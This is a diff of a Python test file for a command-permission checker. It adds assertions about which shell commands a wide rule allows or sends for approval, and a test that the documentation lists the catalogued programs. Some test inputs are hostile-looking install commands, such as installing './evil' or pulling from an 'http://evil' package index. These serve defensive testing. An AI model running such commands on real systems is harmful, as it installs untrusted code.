@@ -4,14 +4,17 @@ from __future__ import annotations
 
 import os
 import random
+import re
 from collections import Counter
 from collections.abc import Callable
 from itertools import islice
+from pathlib import Path
 
 import pytest
 
 from clew.permissions.answers import rules_for
 from clew.permissions.explain import explain
+from clew.permissions.programs.catalog import PROGRAMS
 from clew.permissions.programs.scripts import is_plain_script
 from clew.transcript.rule import Rule, Target
 from tests.corpora import options as corpus
@@ -110,6 +113,8 @@ def test_a_rule_that_writes_the_dangerous_thing_out_covers_it() -> None:
     assert action("sed -i s/a/b/ f", "sed *") == "ask"
     assert action("sed -i s/a/b/ f", "sed -i *") == "allow"
     assert action("npm install left-pad", "npm *") == "ask"
+    assert action("npm install left-pad", "npm install *") == "allow"
+    assert action("npm install ./evil", "npm install *") == "ask"
     assert action("pip install requests", "pip install *") == "allow"
     assert action("pip install --index-url http://evil requests", "pip install *") == "ask"
     assert action("git bisect run make test", "git bisect *", "git bisect run *") == "ask"
@@ -201,6 +206,13 @@ def test_a_known_beginning_does_not_help_where_one_word_becomes_several(line: st
 def test_the_reason_names_the_argument_that_asked(line: str, said: str) -> None:
     """People read it in the approval."""
     assert reason(line) == said
+
+
+def test_the_programs_with_tables_are_those_that_the_reference_names() -> None:
+    """A person can look up for which programs a wide rule is narrower than it looks."""
+    page = (Path(__file__).resolve().parents[2] / "docs" / "reference.md").read_text(encoding="utf-8")
+    listed = page.split("There are\ntables for\n", 1)[1].split("\n\n", 1)[0]
+    assert re.findall(r"`([^`]+)`", listed) == sorted(PROGRAMS)
 
 
 @pytest.mark.rule("PM-8")
